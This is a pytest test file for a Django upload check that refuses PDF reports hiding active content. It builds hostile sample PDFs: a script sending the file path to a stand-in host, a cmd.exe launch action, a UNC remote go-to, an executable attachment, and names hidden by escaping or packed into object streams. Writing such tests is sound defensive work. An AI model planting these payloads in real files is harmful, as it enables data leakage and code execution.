"""Issue 17 item 3: a review report with active content hidden from a byte search is refused.

The report is served byte for byte to the unit's staff, so the upload check
must see the file as a PDF reader does: names with `#xx` escapes decoded and
objects unpacked from compressed object streams. Each attack below got past
the old search for `/JavaScript` in the raw bytes (or was refused only by luck).
"""

from __future__ import annotations

from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject

from inspections.models import Inspection
from tests.pdfs import assemble, assemble_packed, clean_pdf, written

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"
# The page runs object 4 when it is opened (an additional action, no /OpenAction).
ON_OPEN = b"/AA << /O 4 0 R >>"
SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('http://x.example/'+this.path)) >>"
ESCAPED_SCRIPT = b"<< /S /J#61vaScript /J#53 (app.launchURL('http://x.example/')) >>"

SCRIPT_MESSAGE = "PDF-filen innehåller skript eller inbäddade filer och tas inte emot."
FORM_MESSAGE = "PDF-filen innehåller formulärfält och tas inte emot."


def document_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hej')"))
    return written(writer)


def attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("faktura.pdf.exe", b"MZ\x90\x00")
    return written(writer)


def acroform() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject()}
    )
    return written(writer)


def encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="hemligt", algorithm="AES-128")
    return written(writer)


ATTACKS = {
    "document-level script": (document_script(), SCRIPT_MESSAGE),
    "escaped names": (
        assemble([CATALOG % b"", PAGES, PAGE % ON_OPEN, ESCAPED_SCRIPT]),
        SCRIPT_MESSAGE,
    ),
    "script in a compressed object stream": (
        assemble_packed([CATALOG % b"", PAGES], [PAGE % ON_OPEN, SCRIPT]),
        SCRIPT_MESSAGE,
    ),
    "escaped script in an object stream no xref lists": (
        assemble_packed([CATALOG % b"", PAGES, PAGE % b""], [ESCAPED_SCRIPT], list_packed=False),
        SCRIPT_MESSAGE,
    ),
    "launch action, escaped": (
        assemble(
            [CATALOG % b"", PAGES, PAGE % ON_OPEN, b"<< /S /L#61unch /F (cmd.exe) >>"],
        ),
        SCRIPT_MESSAGE,
    ),
    "remote go-to on a UNC path": (
        assemble(
            [
                CATALOG % b"",
                PAGES,
                PAGE % ON_OPEN,
                rb"<< /S /GoToR /F (\\\\x.example\\share\\a.pdf) /D [0 /Fit] >>",
            ]
        ),
        SCRIPT_MESSAGE,
    ),
    "embedded file": (attachment(), SCRIPT_MESSAGE),
    "AcroForm": (acroform(), FORM_MESSAGE),
    "XFA form packed in an object stream": (
        assemble_packed([CATALOG % b"/AcroForm 3 0 R", PAGES], [b"<< /Fields [] /XFA 4 0 R >>"]),
        FORM_MESSAGE,
    ),
    "encrypted": (encrypted(), "PDF-filen är krypterad eller lösenordsskyddad."),
    "header and trailer around garbage": (
        b"%PDF-1.7\n" + b"\x00not a pdf body\x00" * 20 + b"\n%%EOF\n",
        "PDF-filen går inte att läsa.",
    ),
}


@pytest.fixture(autouse=True)
def private_files(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private"
    return settings.MEDIA_ROOT


@pytest.fixture
def review(world) -> Inspection:
    return Inspection.unscoped.create(
        region=world.region,
        unit=world.unit,
        kind=Inspection.Kind.EXTERNAL,
        performed_on=date(2026, 4, 20),
        created_by=world.head_of_unit,
    )


def upload(client, review: Inspection, content: bytes):
    return client.post(
        f"/blekinge/granskningar/{review.pk}/rapport/",
        {"rapport": SimpleUploadedFile("rapport.pdf", content, content_type="application/pdf")},
    )


def stored_files(root) -> list:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize(("content", "message"), ATTACKS.values(), ids=ATTACKS.keys())
def test_a_pdf_with_hidden_active_content_is_refused_and_nothing_is_stored(
    world, review, login, private_files, content, message
):
    response = upload(login(world.head_of_unit), review, content)
    assert response.status_code == 200
    assert message in response.text
    assert stored_files(private_files) == []
    review.refresh_from_db()
    assert not review.report
    assert review.report_name == ""


CLEAN = {
    "from pypdf": clean_pdf(),
    "opening on its first page": assemble(
        [CATALOG % b"/OpenAction [3 0 R /Fit]", PAGES, PAGE % b""]
    ),
    "with a compressed object stream": assemble_packed([CATALOG % b"", PAGES], [PAGE % b""]),
    "with a web link": assemble(
        [
            CATALOG % b"",
            PAGES,
            PAGE % b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 9] "
            b"/A << /S /URI /URI (https://www.socialstyrelsen.se/) >> >>",
        ]
    ),
}


@pytest.mark.parametrize("content", CLEAN.values(), ids=CLEAN.keys())
def test_a_plain_pdf_still_uploads(world, review, login, private_files, content):
    response = upload(login(world.head_of_unit), review, content)
    assert response.status_code == 302
    (stored,) = stored_files(private_files)
    assert stored.read_bytes() == content
